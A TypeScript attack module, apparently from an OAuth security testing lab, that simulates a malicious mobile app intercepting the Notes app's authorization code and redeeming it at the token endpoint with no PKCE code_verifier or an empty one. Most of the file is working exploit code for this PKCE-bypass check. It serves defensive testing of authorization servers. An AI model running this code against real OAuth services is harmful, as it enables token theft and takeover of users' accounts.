/**
 * A malicious app on alice's phone registered the same private-use URI scheme as the Notes app
 * (`com.example.notes:`). When the authorization server redirects alice's browser back to
 * `com.example.notes:/callback?code=…`, the operating system may hand that URL to the malicious
 * app instead. It never saw the Notes app's PKCE verifier, so it redeems the code without one.
 */
import { createHash, randomBytes } from 'node:crypto';
import { blocked, defineAttack, worked } from '@authlab/lab-kit';

export default defineAttack({
  title: "intercept the Notes app's authorization code on alice's phone and redeem it without the PKCE verifier",
  why: 'the authorization server only checks code_verifier when the client sends one, so a stolen code is as good as a token',
  async run(lab) {
    const { clientId, redirectUri } = lab.info as { clientId: string; redirectUri: string };

    /** The Notes app signs alice in the right way, and the OS hands the redirect to the malicious app. */
    async function interceptCode(): Promise<string> {
      // 1. PKCE S256, the verifier kept in the Notes app's memory.
      const verifier = randomBytes(32).toString('base64url');
      const authorize = new URL('/authorize', lab.url);
      authorize.search = new URLSearchParams({
        response_type: 'code',
        client_id: clientId,
        redirect_uri: redirectUri,
        state: randomBytes(16).toString('base64url'),
        code_challenge: createHash('sha256').update(verifier).digest('base64url'),
        code_challenge_method: 'S256',
      }).toString();
      const response = await fetch(authorize, { redirect: 'manual' });
      const location = response.headers.get('location');
      if (!location) throw new Error(`GET /authorize answered ${response.status} without a redirect`);
      // 2. `com.example.notes:/callback?code=…` reaches the malicious app, which registered the
      //    same scheme. It has the code, and the client_id and redirect_uri are public.
      const code = new URL(location).searchParams.get('code');
      if (!code) throw new Error(`the redirect carried no code: ${location}`);
      return code;
    }

    // 3. It redeems the code first without the verifier it never saw: leaving the parameter out,
    //    or sending it empty (a server that checks only a verifier it is given lets both through).
    const refused: string[] = [];
    for (const [how, extra] of [
      ['without a code_verifier', {}],
      ['with an empty code_verifier', { code_verifier: '' }],
    ] as const) {
      const token = await fetch(`${lab.url}/token`, {
        method: 'POST',
        body: new URLSearchParams({
          grant_type: 'authorization_code',
          code: await interceptCode(),
          client_id: clientId,
          redirect_uri: redirectUri,
          ...extra,
        }),
      });
      const answer = (await token.json()) as { access_token?: string; error?: string };
      if (!answer.access_token) {
        refused.push(`${how}: ${token.status} ${answer.error ?? ''}`.trim());
        continue;
      }
      const me = (await (
        await fetch(`${lab.url}/api/me`, { headers: { authorization: `Bearer ${answer.access_token}` } })
      ).json()) as { sub?: string };
      return worked(
        `the intercepted code, redeemed ${how}, gave an access token; GET /api/me answered sub "${me.sub}"`,
      );
    }
    return blocked(`POST /token refused the intercepted codes (${refused.join('; ')})`);
  },
});
